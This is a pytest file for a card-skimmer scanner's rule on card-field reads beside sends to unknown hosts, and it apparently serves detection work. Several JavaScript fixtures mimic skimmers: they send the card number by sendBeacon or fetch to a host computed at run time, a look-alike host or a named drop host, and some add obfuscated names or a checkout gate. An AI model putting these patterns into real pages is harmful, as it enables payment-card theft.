"""policy/cooccurrence.py: card reads beside a send to an unknown host, with no data path, are
lowered in a script static analysis read whole — and only there."""

from __future__ import annotations

import pytest

from skimscan.models import Severity, Verdict
from skimscan.policy.cooccurrence import COOCCURRENCE_RULES

VENDOR = "https://collect.vendor-x.example/c"
# A fraud-style collector: it watches the card field and the pay button, and sends typing
# timings, never the value.
TIMINGS = (
    "var t0 = 0, gaps = [];\n"
    "var card = document.querySelector('#cc_number');\n"
    "card.addEventListener('keydown', function () { var t = Date.now(); "
    "if (t0) gaps.push(t - t0); t0 = t; });\n"
    "document.querySelector('#pay').addEventListener('click', function () {\n"
    f"  navigator.sendBeacon('{VENDOR}', JSON.stringify({{gaps: gaps, n: card.value.length}}));"
    " });\n")


def lowered(report) -> list:  # type: ignore[no-untyped-def]
    return [f for f in report.findings if f.rule in COOCCURRENCE_RULES]


def test_read_whole_with_no_path_is_lowered_to_suspicious(analyze) -> None:  # type: ignore[no-untyped-def]
    report = analyze(TIMINGS)
    found = lowered(report)
    assert found and all(f.severity is Severity.MEDIUM and f.evidence["lowered_from"] == "high"
                         and "no data path" in f.message for f in found)
    assert report.verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize("why, extra", [
    ("a statement that does not parse", "var broken = ;\n"),
    ("obfuscator names", "".join(f"var _0x{i:04x} = {i};\n" for i in range(12))),
    ("a URL gate", "if (location.href.indexOf('checkout') < 0) { throw 0; }\n"),
])
def test_not_lowered_where_the_script_was_not_read_whole_or_hides(  # type: ignore[no-untyped-def]
        why: str, extra: str, analyze) -> None:
    report = analyze(TIMINGS + extra)
    assert report.verdict is Verdict.MALICIOUS, why
    assert all("lowered_from" not in f.evidence for f in lowered(report)), why


def test_nothing_is_lowered_where_a_data_path_carries_the_card(analyze) -> None:  # type: ignore[no-untyped-def]
    """The card reaches a sink (here the same host): the combinations stay as they are."""
    report = analyze(TIMINGS.replace("n: card.value.length", "n: card.value"))
    assert report.verdict is Verdict.MALICIOUS
    assert lowered(report) and all("lowered_from" not in f.evidence for f in lowered(report))


def test_nothing_is_lowered_where_the_card_goes_elsewhere(analyze) -> None:  # type: ignore[no-untyped-def]
    """The vendor gets timings, but the card itself goes to a destination computed at run
    time: the script is not one whose reads are accounted for."""
    report = analyze(TIMINGS + "fetch(document.body.getAttribute('data-u'), "
                               "{method: 'POST', body: card.value});\n")
    assert all("lowered_from" not in f.evidence for f in lowered(report))
    assert report.verdict is Verdict.MALICIOUS


@pytest.mark.parametrize("host", ["https://google-analytics-tag.com/c",  # look-alike
                                  "https://baways.com/c"])  # a documented drop host
def test_a_look_alike_or_known_bad_host_is_never_lowered(host: str, analyze) -> None:  # type: ignore[no-untyped-def]
    report = analyze(TIMINGS.replace(VENDOR, host))
    assert report.verdict is Verdict.MALICIOUS
    assert lowered(report) and all("lowered_from" not in f.evidence for f in lowered(report))
